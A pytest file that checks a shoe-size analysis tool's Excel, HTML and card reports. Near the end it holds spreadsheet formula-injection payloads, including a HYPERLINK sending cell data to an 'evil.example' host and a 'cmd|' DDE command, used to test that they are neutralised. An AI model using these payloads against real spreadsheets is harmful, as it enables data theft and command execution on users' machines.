"""The workbook (``summary.xlsx`` / ``ringkasan.xlsx``) opened as Excel would: with openpyxl.

What a person in the office checks: one sheet per table, headers in their language,
numbers stored as numbers with a number format (not text, not 16 digits, no ``inf``),
the same values as the CSV files beside it, a frozen and filterable header, rows
coloured by verdict, and producer names that look like formulas shown, never run.
"""

from __future__ import annotations

import csv
import itertools
import math
from dataclasses import replace
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from sizecheck.escaping import formula_safe
from sizecheck.findings import verdict_words
from sizecheck.i18n import dimension_label, format_date, t
from sizecheck.pipeline import Analysis, analyse
from sizecheck.report import write_report

SHEETS = ("about", "summary", "corrections", "comparison", "conventions", "reference", "rejects")


@pytest.fixture(scope="module")
def example() -> Analysis:
    from sizecheck.examples import example_path

    return analyse([example_path("mojokerto")], synthetic=True)


@pytest.fixture(scope="module", params=["en", "id"])
def written(
    request: pytest.FixtureRequest, example: Analysis, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, Path]:
    lang = str(request.param)
    out = tmp_path_factory.mktemp(f"wb-{lang}")
    write_report(example, out, lang=lang, charts=False)
    return lang, out


def _book(lang: str, out: Path) -> openpyxl.Workbook:
    name = {"en": "summary.xlsx", "id": "ringkasan.xlsx"}[lang]
    other = {"en": "ringkasan.xlsx", "id": "summary.xlsx"}[lang]
    assert (out / name).is_file() and not (out / other).exists()
    return openpyxl.load_workbook(out / name)


def _sheet(book: openpyxl.Workbook, key: str, lang: str) -> openpyxl.worksheet.worksheet.Worksheet:
    return book[t(f"workbook.sheet.{key}", lang)]


def _header(ws: openpyxl.worksheet.worksheet.Worksheet) -> list[str]:
    return [c.value for c in ws[1]]


def _column(ws: openpyxl.worksheet.worksheet.Worksheet, header: str) -> list[openpyxl.cell.Cell]:
    index = _header(ws).index(header)
    return [row[index] for row in ws.iter_rows(min_row=2)]


def test_sheets_and_headers_in_the_chosen_language(written: tuple[str, Path]) -> None:
    lang, out = written
    book = _book(lang, out)
    assert book.sheetnames == [t(f"workbook.sheet.{k}", lang) for k in SHEETS]
    expected = {
        # written out, so that a wrong or missing catalogue key fails here
        "en": {
            "summary": ["Producer", "Model", "Dimension", "Verdict"],
            "corrections": ["Producer", "Model", "Dimension", "Size", "Measurements"],
            "rejects": ["File", "Row", "Column", "Value", "Code", "Reason"],
        },
        "id": {
            "summary": ["Produsen", "Model", "Bagian yang diukur", "Penilaian"],
            "corrections": ["Produsen", "Model", "Bagian yang diukur", "Nomor"],
            "rejects": ["Berkas", "Baris", "Kolom", "Nilai", "Kode", "Alasan"],
        },
    }[lang]
    for key, heads in expected.items():
        ws = _sheet(book, key, lang)
        assert _header(ws)[: len(heads)] == heads
    assert "Koreksi (mm)" in _header(_sheet(book, "corrections", lang)) or lang == "en"
    assert "Correction (mm)" in _header(_sheet(book, "corrections", lang)) or lang == "id"
    for key in SHEETS[1:]:
        ws = _sheet(book, key, lang)
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert all(c.font.bold for c in ws[1])
        assert all(ws.column_dimensions[c.column_letter].width >= 6 for c in ws[1])


def test_every_header_key_exists_in_both_catalogues() -> None:
    from sizecheck import workbook

    tables = [
        workbook.SUMMARY_COLUMNS,
        workbook.CORRECTION_COLUMNS,
        workbook.COMPARISON_COLUMNS,
        workbook.CONVENTION_COLUMNS,
        workbook.REJECT_COLUMNS,
        workbook.REFERENCE_COLUMNS,
    ]
    keys = {c.key for cols in tables for c in cols}
    en = {k: t(k, "en") for k in keys}
    idn = {k: t(k, "id") for k in keys}
    translated = [k for k in keys if en[k] != idn[k]]
    # only names that are the same in both languages (AIC, Cpk, Ppk, Model) stay equal
    assert sorted(set(keys) - set(translated)) == [
        "workbook.col.aic", "workbook.col.cpk", "workbook.col.model", "workbook.col.ppk",
    ]  # fmt: skip


def _number_cells(book: openpyxl.Workbook) -> list[openpyxl.cell.Cell]:
    return [
        c
        for ws in book.worksheets
        for row in ws.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, int | float) and not isinstance(c.value, bool)
    ]


def test_numbers_are_numbers_with_formats_and_few_digits(written: tuple[str, Path]) -> None:
    lang, out = written
    book = _book(lang, out)
    cells = _number_cells(book)
    assert len(cells) > 1000
    for c in cells:
        assert c.data_type == "n"
        assert math.isfinite(c.value)
        # at most 3 decimals, or 3 significant digits (p-values); never 16 digits
        assert round(c.value, 3) == c.value or float(f"{c.value:.3g}") == c.value
    texts = [
        c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
        if isinstance(c.value, str)
    ]  # fmt: skip
    assert not {"inf", "-inf", "nan", "NaN", "None"} & set(texts)
    corr = _sheet(book, "corrections", lang)
    head = t("workbook.col.correction_mm", lang)
    formats = {c.number_format for c in _column(corr, head) if c.value is not None}
    assert formats == {"0.0"}
    dates = _column(_sheet(book, "summary", lang), t("workbook.col.current_since", lang))
    shown = {c.number_format for c in dates if c.value is not None}
    assert shown == {"yyyy-mm-dd" if lang == "en" else "dd/mm/yyyy"}


def _csv(out: Path, name: str) -> pd.DataFrame:
    return pd.read_csv(out / name, keep_default_na=False, na_values=[""])


def _same(cell: object, expected: object, digits: int = 3) -> bool:
    if expected is None or (isinstance(expected, float) and not math.isfinite(expected)):
        return cell is None
    if isinstance(expected, str):
        return cell == (formula_safe(expected) if expected else None)
    assert isinstance(cell, int | float), (cell, expected)
    return math.isclose(float(cell), float(expected), abs_tol=0.6 * 10**-digits)  # type: ignore[arg-type]


def test_values_equal_the_csv_files(written: tuple[str, Path]) -> None:
    lang, out = written
    book = _book(lang, out)
    sheets = {
        "corrections": ("corrections.csv", ["producer", "model", "size", "n", "nominal_mm",
                                            "mean_mm", "correction_mm", "correction_sizes",
                                            "ci_low_mm", "ci_high_mm"]),
        "comparison": ("comparison.csv", ["size", "n_producers", "n", "mean_min_mm",
                                          "mean_max_mm", "lowest_producer", "highest_producer",
                                          "spread_mm", "spread_sizes"]),
        "conventions": ("conventions.csv", ["producer", "convention", "description", "n",
                                            "n_sizes", "mean_residual_mm", "rms_residual_mm",
                                            "fitted_shift_mm"]),
        "rejects": ("rejects.csv", ["source", "row", "column", "value", "code", "message"]),
    }  # fmt: skip
    for key, (name, columns) in sheets.items():
        frame = _csv(out, name)
        ws = _sheet(book, key, lang)
        assert ws.max_row - 1 == len(frame) > 0, key
        for col in columns:
            cells = [c.value for c in _column(ws, t(f"workbook.col.{col}", lang))]
            values = [None if pd.isna(v) else v for v in frame[col].tolist()]
            if frame[col].dtype == object or col in ("model", "column"):
                values = [None if v is None else str(v) for v in values]
            bad = [(c, v) for c, v in zip(cells, values, strict=True) if not _same(c, v)]
            assert not bad, (key, col, bad[:3])
        if "dimension" in frame.columns:
            dims = [c.value for c in _column(ws, t("workbook.col.dimension", lang))]
            assert dims == [dimension_label(d, lang) for d in frame["dimension"]]
    conv = _sheet(book, "conventions", lang)
    fits = [c.value for c in _column(conv, t("workbook.col.fits", lang))]
    words = {True: t("workbook.yes", lang), False: t("workbook.no", lang)}
    assert fits == [words[bool(v)] for v in _csv(out, "conventions.csv")["fits"]]


def test_summary_sheet_shows_the_findings_as_in_producer_summary(
    written: tuple[str, Path],
) -> None:
    lang, out = written
    book = _book(lang, out)
    ws = _sheet(book, "summary", lang)
    head = _header(ws)
    rows = [dict(zip(head, (c.value for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]
    ps = _csv(out, "producer_summary.csv")
    pooled = ps["model"].isna()
    # every producer × dimension (models pooled), plus per model where a producer has
    # several (a producer of one model has no second finding for it)
    assert sum(1 for r in rows if r[t("workbook.col.model", lang)] is None) == pooled.sum()
    assert len(rows) <= len(ps)
    by_key = {
        (r.producer, "" if pd.isna(r.model) else str(r.model), dimension_label(r.dimension, lang)):
        r for r in ps.itertuples(index=False)
    }  # fmt: skip
    col = {k: t(f"workbook.col.{k}", lang) for k in (
        "producer", "model", "dimension", "verdict", "n", "current_bias_mm", "bias_mm",
        "pct_in_spec", "cpk", "grade_error_mm_per_size",
    )}  # fmt: skip
    for row in rows:
        r = by_key[(row[col["producer"]], row[col["model"]] or "", row[col["dimension"]])]
        assert row[col["verdict"]] == verdict_words(r.verdict, lang)
        assert row[col["n"]] == r.n
        for name in ("current_bias_mm", "bias_mm", "pct_in_spec", "cpk"):
            assert _same(row[col[name]], getattr(r, name), 2 if name == "pct_in_spec" else 3)
        assert _same(row[col["grade_error_mm_per_size"]], r.grade_error_mm_per_size)


#: The number format a person sees per column of the summary and corrections sheets
#: (written out, not taken from sizecheck.workbook, so that a changed format fails here).
SHOWN_FORMATS = {
    "n": "#,##0", "n_sizes": "#,##0", "current_n": "#,##0", "drift_signals": "#,##0",
    "current_bias_mm": "0.0", "bias_mm": "0.0", "offset_mm": "0.0", "correction_mm": "0.0",
    "mean_mm": "0.0", "nominal_mm": "0.0", "ci_low_mm": "0.0", "ci_high_mm": "0.0",
    "grade_error_mm_per_size": "0.00", "sd_within_mm": "0.00", "correction_sizes": "0.00",
    "current_bias_sizes": "0.00", "pct_in_spec": "0.0", "cpk": "0.00", "ppk": "0.00",
    "producer": "General", "dimension": "General", "verdict": "General",
}  # fmt: skip


def test_every_cell_has_the_look_of_its_column(written: tuple[str, Path]) -> None:
    # read back as Excel shows it: the header grey, bold and wrapped; every body cell
    # top-aligned, with its column's number format; a wrong size's row red and bold,
    # the others not bold; and the formatted numbers are the CSV's, rounded
    lang, out = written
    book = _book(lang, out)
    for key in ("summary", "corrections"):
        ws = _sheet(book, key, lang)
        for c in ws[1]:
            assert c.font.bold and c.alignment.wrap_text and c.alignment.vertical == "top"
            assert c.fill.fill_type == "solid" and c.fill.fgColor.rgb[-6:] == "D9D9D9"
        heads = {t(f"workbook.col.{name}", lang): name for name in SHOWN_FORMATS}
        columns = {i: heads[h] for i, h in enumerate(_header(ws)) if h in heads}
        assert len(columns) >= 6, key
        for row in ws.iter_rows(min_row=2):
            red = row[0].fill.fill_type == "solid" and row[0].fill.fgColor.rgb[-6:] == "F2A0A0"
            for i, c in enumerate(row):
                assert c.alignment.vertical == "top", (key, c.coordinate)
                assert bool(c.font.bold) == red, (key, c.coordinate)
                if i in columns and c.value is not None:
                    assert c.number_format == SHOWN_FORMATS[columns[i]], (key, c.coordinate)
    corr = _sheet(book, "corrections", lang)
    cells = _column(corr, t("workbook.col.correction_mm", lang))
    csv_values = _csv(out, "corrections.csv")["correction_mm"].tolist()
    for cell, value in zip(cells, csv_values, strict=True):
        assert cell.value == (round(value, 3) + 0.0 if math.isfinite(value) else None)
        assert cell.data_type == "n" or cell.value is None
    summary = _sheet(book, "summary", lang)
    verdicts = [c.value for c in _column(summary, t("workbook.col.verdict", lang))]
    reds = [r[0].fill.fgColor.rgb[-6:] == "F2A0A0" for r in summary.iter_rows(min_row=2)]
    assert any(reds) and not all(reds)
    assert verdict_words("conforming", lang) not in {
        v for v, r in zip(verdicts, reds, strict=True) if r
    }


def _luma(rgb: str) -> float:
    r, g, b = (int(rgb[-6:][i : i + 2], 16) for i in (0, 2, 4))
    return 0.299 * r + 0.587 * g + 0.114 * b  # ITU-R BT.601, as a grayscale print converts


def test_rows_are_filled_by_verdict_and_apart_in_grayscale(written: tuple[str, Path]) -> None:
    lang, out = written
    ws = _sheet(_book(lang, out), "summary", lang)
    verdict_col = _header(ws).index(t("workbook.col.verdict", lang))
    fills: dict[str, set[str]] = {}
    for row in ws.iter_rows(min_row=2):
        fill = row[0].fill
        colour = fill.fgColor.rgb if fill.fill_type == "solid" else "FFFFFFFF"
        assert {c.fill.fgColor.rgb for c in row} == {row[0].fill.fgColor.rgb}  # whole row
        fills.setdefault(str(row[verdict_col].value), set()).add(colour)
    conforming = fills[verdict_words("conforming", lang)]
    offset = fills[verdict_words("offset", lang)]
    no_data = fills[verdict_words("insufficient_data", lang)]
    assert len(conforming) == len(offset) == len(no_data) == 1
    lumas = sorted(_luma(c) for c in (*no_data, *conforming, *offset))
    assert lumas[0] < lumas[1] < lumas[2]
    assert min(b - a for a, b in itertools.pairwise(lumas)) > 15


def test_about_sheet_names_the_table_period_and_inputs(written: tuple[str, Path]) -> None:
    lang, out = written
    ws = _sheet(_book(lang, out), "about", lang)
    pairs = {r[0]: r[1:] for r in ws.iter_rows(values_only=True) if r and r[0]}
    table = pairs[t("workbook.about.table", lang)][0]
    assert str(table).startswith("paris-point")
    first = pairs[t("workbook.about.period_first", lang)][0]
    last = pairs[t("workbook.about.period_last", lang)][0]
    dates = pd.to_datetime(pd.read_csv(out / "deviations.csv")["date"]).dropna()
    assert first.date() == dates.min().date() and last.date() == dates.max().date()
    inputs = [r for r in ws.iter_rows(values_only=True) if r[0] == t("workbook.about.input", lang)]
    assert len(inputs) == 1 and len(str(inputs[0][2]).split()[-1]) == 64  # SHA-256 hex


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "UD \u202eayaJ",
]


def test_formula_like_names_are_inert(tmp_path: Path) -> None:
    """A workbook cell whose text starts with ``=`` is a formula in openpyxl and Excel;
    every such name must arrive as text with its apostrophe (OWASP), and a bidi control
    shown as ``[U+202E]``."""
    from typer.testing import CliRunner

    from sizecheck.cli import app

    rng = np.random.default_rng(3)
    data = tmp_path / "qa.csv"
    with data.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["produsen", "ukuran", "panjang insole (mm)", "model"])
        for producer in FORMULAS:
            for size in range(38, 44):
                for _ in range(3):
                    value = round(size * 20 / 3 + rng.normal(0, 1.0), 1)
                    writer.writerow([producer, size, value, "=A1"])
        writer.writerow(["=1+1", 40, "=2+2", "x"])
    out = tmp_path / "out"
    result = CliRunner().invoke(
        app, ["measure", str(data), "--out", str(out), "--no-charts", "--lang", "id"]
    )
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out / "ringkasan.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for name in FORMULAS[:4]:
        assert formula_safe(name) in texts and name not in texts
    assert "UD [U+202E]ayaJ" in texts
    assert "'=2+2" in texts  # the rejected cell's value, on the rejects sheet


def test_what_a_sheet_cannot_hold_is_said_not_dropped(
    example: Analysis, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Excel holds 1,048,576 rows a sheet and 32,767 characters a cell; XlsxWriter drops
    what is beyond them and returns an error code. A sheet too long ends with a row
    saying how many rows are left out (shown here with a limit of 6 rows), and a too
    long text is cut with "…" (review)."""
    from sizecheck import workbook

    monkeypatch.setattr(workbook, "SHEET_ROWS", 6)
    rejects = example.rejects.copy()
    assert len(rejects) > 5
    rejects.loc[rejects.index[0], "value"] = "x" * 40_000
    path = workbook.write_workbook(
        replace(example, rejects=rejects), tmp_path / "r.xlsx", lang="id"
    )
    sheet = openpyxl.load_workbook(path)[t("workbook.sheet.rejects", "id")]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert len(rows) == 6  # header, 4 rows, the note
    assert rows[-1][0] == t("workbook.more_rows", "id", n=len(rejects) - 4, limit=5)
    cut = [v for v in rows[1] if isinstance(v, str) and v.startswith("xxx")]
    assert [len(v) for v in cut] == [workbook.CELL_CHARS] and cut[0].endswith("…")


# --------------------------------------------------------------------------- report metadata

HOSTILE_INFO = {
    "title": '=HYPERLINK("http://evil","Laporan") <b>uji</b>',
    "office": "UPT Persepatuan \u202eotrekojoM",
    "report_no": "@QA/2026/114",
}


def test_measure_metadata_in_summary_json_and_workbook(tmp_path: Path) -> None:
    import json

    from typer.testing import CliRunner

    from sizecheck.cli import app

    out = tmp_path / "out"
    args = ["measure", "--example", "--no-charts", "--out", str(out), "--lang", "id"]
    for option, key in (("--title", "title"), ("--office", "office"), ("--report-no", "report_no")):
        args += [option, HOSTILE_INFO[key]]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    assert summary["report"] == HOSTILE_INFO  # machine-readable: as given
    ws = _sheet(openpyxl.load_workbook(out / "ringkasan.xlsx"), "about", "id")
    pairs = {r[0]: r[1] for r in ws.iter_rows(values_only=True) if r and r[0]}
    assert pairs["Judul laporan"] == formula_safe(HOSTILE_INFO["title"])
    assert pairs["Kantor penerbit"] == "UPT Persepatuan [U+202E]otrekojoM"
    assert pairs["Nomor laporan"] == "'@QA/2026/114"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_measure_refuses_a_title_longer_than_a_heading(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from sizecheck.cli import app

    result = CliRunner().invoke(
        app, ["measure", "--example", "--no-charts", "--out", str(tmp_path), "--title", "x" * 201]
    )
    assert result.exit_code == 2
    assert "--title" in result.output and "200" in result.output
    assert not (tmp_path / "summary.json").exists()


def _with_info(analysis: Analysis) -> Analysis:
    import dataclasses

    from sizecheck.pipeline import ReportInfo

    return dataclasses.replace(analysis, report_info=ReportInfo(**HOSTILE_INFO))


@pytest.mark.parametrize("lang", ["en", "id"])
def test_card_shows_metadata_period_and_a_signature_box(example: Analysis, lang: str) -> None:
    from matplotlib.patches import Rectangle

    from sizecheck.cards import card_figure
    from sizecheck.plotting.layout import text_overlaps
    from sizecheck.plotting.style import house_style

    analysis = _with_info(example)
    producer = "CV Sooko Safety"  # the longest finding of the example
    finding = analysis.findings[producer]
    with house_style():
        fig = card_figure(analysis, producer, lang=lang)
        texts = [x.get_text().replace("\n", " ") for x in fig.texts]
        assert text_overlaps(fig, margin=0.1) == []
    page = " | ".join(texts)
    assert "UPT Persepatuan [U+202E]otrekojoM" in page and "\u202e" not in page
    assert HOSTILE_INFO["title"].split(" <b>")[0] in page  # drawn as text, nothing to run
    assert t("workbook.card.report_no", lang, report_no="@QA/2026/114") in page
    first, last = format_date(finding.first_date, lang), format_date(finding.last_date, lang)
    assert t("card.period", lang, first=first, last=last) in page
    assert {"en": ["Checked by", "Date"], "id": ["Diperiksa oleh", "Tanggal"]}[lang][0] in texts
    boxes = [a for a in fig.artists if isinstance(a, Rectangle)]
    assert len(boxes) == 1 and boxes[0].get_height() * 297 >= 12  # mm on A4: room to sign


def test_report_header_shows_metadata_escaped(example: Analysis) -> None:
    from sizecheck.report_html import render_html

    html = render_html(_with_info(example), lang="id")
    header = html.split('<header id="top">')[1].split("</header>")[0]
    assert "UPT Persepatuan [U+202E]otrekojoM" in header and "\u202e" not in html
    assert "&lt;b&gt;uji&lt;/b&gt;" in header and "<b>uji</b>" not in html
    assert "Nomor laporan @QA/2026/114" in header
    first = pd.to_datetime(example.deviations["date"]).min()  # the example's first day
    last = pd.to_datetime(example.deviations["date"]).max()
    period = f"Diukur {format_date(first, 'id')} s.d. {format_date(last, 'id')}."
    assert period in header, header
    plain = render_html(example, lang="en")
    assert '<p class="office">' not in plain and "Report no." not in plain
